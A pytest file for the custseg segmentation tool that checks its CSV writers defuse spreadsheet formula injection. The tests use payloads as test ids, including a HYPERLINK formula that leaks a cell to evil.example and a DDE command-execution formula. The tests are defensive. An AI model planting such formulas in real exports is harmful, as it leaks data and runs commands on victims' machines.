"""CSV/formula injection: no cell custseg writes can start a spreadsheet formula.

OWASP: a cell starting with =, +, -, @, tab or carriage return gets a leading
quote; plain numbers (-12.5) stay numbers; ids that differ only by such
characters stay different. Checked on `run` and `assign` output (one small run
shared by the module), `features` output and the function itself.
"""

from __future__ import annotations

import csv

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from custseg.datasets import make_customers
from custseg.persist.model import segments_frame
from custseg.safe_csv import FORMULA_START, neutralise_cell, neutralise_formulas
from tests.cli.helpers import invoke

FAST = ("--algorithms", "kmeans", "--no-report", "--no-stability", "--k", "3")
# Ids as an attacker would write them, plus look-alikes that must stay apart. (The
# loader strips surrounding white space, so tab/CR-led ids are tested on the writer.)
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|'/C calc'!A0",
            "+1-555-0100", "@SUM(A1:A9)", "=1+1", "'=1+1", "1+1", "-12.5", "+3", "-1e5"]
DANGEROUS = tuple(FORMULA_START)


def _raw_cells(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def _is_plain_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return cell.strip().lower().lstrip("+-") not in ("inf", "infinity", "nan")


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS) or _is_plain_number(cell), repr(cell)


@pytest.fixture(scope="module")
def scored(tmp_path_factory):
    """One run and one assign on customers whose id column is named `segment`."""
    root = tmp_path_factory.mktemp("inject")
    frame = make_customers(150, k=3, seed=3)
    ids = PAYLOADS + [f"c{i}" for i in range(len(frame) - len(PAYLOADS))]
    frame = frame.drop(columns=["customer_id"])
    frame.insert(0, "segment", ids)
    data = root / "customers.csv"
    frame.to_csv(data, index=False)
    code, _out, err = invoke("run", data, "-o", root / "out", "--id", "segment", *FAST)
    assert code == 0, err
    code, out_assign, err = invoke("assign", root / "out" / "model.skops", data,
                                   "-o", root / "scored.csv")
    assert code == 0, err
    return {"ids": ids, "run": root / "out" / "segments.csv", "assign": root / "scored.csv",
            "summary": root / "out" / "summary.json", "assign_out": out_assign}


@pytest.mark.parametrize("which", ["run", "assign"])
def test_formula_cells_are_neutralised(scored, which):
    rows = _raw_cells(scored[which])
    _assert_no_formula(rows)
    written = [row[0] for row in rows[1:]]
    assert written[:4] == ["'" + p for p in PAYLOADS[:4]]
    assert written[4:7] == ["'=1+1", "''=1+1", "1+1"]


@pytest.mark.parametrize("which", ["run", "assign"])
def test_negative_numbers_stay_numeric(scored, which):
    written = [row[0] for row in _raw_cells(scored[which])[1:]]
    assert written[7:10] == ["-12.5", "+3", "-1e5"]


@pytest.mark.parametrize("which", ["run", "assign"])
def test_ids_that_differ_only_by_formula_characters_stay_apart(scored, which):
    written = [row[0] for row in _raw_cells(scored[which])[1:]]
    assert len(set(written)) == len(written) == len(scored["ids"])


@pytest.mark.parametrize("which", ["run", "assign"])
def test_an_id_column_named_segment_is_kept(scored, which):
    table = pd.read_csv(scored[which], dtype=str, keep_default_na=False)
    assert list(table.columns[:3]) == ["id_segment", "segment", "segment_name"]
    assert table["id_segment"].tolist()[-5:] == scored["ids"][-5:]
    assert set(table["segment"]) == {"0", "1", "2"}


def test_the_renaming_is_explained(scored):
    import json

    decisions = json.loads(scored["summary"].read_text())["decisions"]
    assert ("id column 'segment' written as 'id_segment' in segments.csv, because 'segment' "
            "is one of custseg's own output columns") in decisions
    assert "note: id column 'segment' written as 'id_segment'" in scored["assign_out"]


def test_features_output_is_neutralised(tmp_path):
    log = pd.DataFrame({"customer": ["=1+2", "=1+2", "@me", "@me", "-7", "ok", "ok"],
                        "date": ["2021-01-05", "2021-03-01", "2021-02-02", "2021-04-04",
                                 "2021-01-09", "2021-02-10", "2021-05-11"],
                        "amount": [10.0, 12.5, 3.0, 4.0, 8.0, 20.0, 1.0]})
    log.to_csv(tmp_path / "log.csv", index=False)
    code, _, err = invoke("features", tmp_path / "log.csv", "-o", tmp_path / "c.csv",
                          "--customer", "customer", "--date", "date", "--amount", "amount")
    assert code == 0, err
    rows = _raw_cells(tmp_path / "c.csv")
    ids = sorted(row[0] for row in rows[1:])
    assert ids == ["'=1+2", "'@me", "-7", "ok"]
    header = rows[0]
    _assert_no_formula([row for row in rows if row is not header] + [header])


def test_segment_names_and_headers_are_neutralised():
    table = segments_frame(pd.DataFrame({"=id": ["\tTAB", "\rCR"]}), np.array([0, 1]),
                           {0: "=HYPERLINK(\"x\")", 1: "Loyal"}, "=id",
                           probability=np.array([0.5, -0.25]))
    safe = neutralise_formulas(table)
    assert list(safe.columns) == ["'=id", "segment", "segment_name", "probability"]
    assert safe["'=id"].tolist() == ["'\tTAB", "'\rCR"]
    assert safe["segment_name"].tolist() == ["'=HYPERLINK(\"x\")", "Loyal"]
    assert safe["probability"].tolist() == [0.5, -0.25]  # numeric columns untouched


def test_categorical_and_string_columns_are_neutralised():
    frame = pd.DataFrame({"c": pd.Categorical(["=x", "y"]),
                          "s": pd.array(["@a", None], dtype="string")})
    safe = neutralise_formulas(frame)
    assert safe["c"].tolist() == ["'=x", "y"]
    assert safe["s"].tolist()[0] == "'@a" and pd.isna(safe["s"].tolist()[1])
    assert frame["c"].tolist() == ["=x", "y"]  # the input is not modified


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(alphabet="=+-@\t\r'1.eE a", max_size=6), min_size=2, max_size=8,
                unique=True))
def test_neutralising_is_one_to_one_and_safe(values):
    cells = [neutralise_cell(v) for v in values]
    assert len(set(cells)) == len(values)  # distinct ids stay distinct
    for before, after in zip(values, cells, strict=True):
        if after.startswith(DANGEROUS):
            assert _is_plain_number(after)  # only plain numbers may start with a sign
            assert after == before


def test_spark_writer_neutralises_segments_csv(tmp_path):
    """The Spark engine's segments.csv goes through the same writer (no JVM needed here:
    below the Parquet threshold the writer only calls ``segments_table()``)."""
    from types import SimpleNamespace

    from custseg.spark.writer import _write_segments

    table = segments_frame(pd.DataFrame({"cid": ["=2*3", "-4.5", "@x"]}), np.array([0, 1, 1]),
                           {0: "A", 1: "B"}, "cid")
    result = SimpleNamespace(n_rows=3, segments_table=lambda: table)
    assert _write_segments(result, tmp_path) == {"segments": "segments.csv"}
    rows = _raw_cells(tmp_path / "segments.csv")
    assert [row[0] for row in rows[1:]] == ["'=2*3", "-4.5", "'@x"]
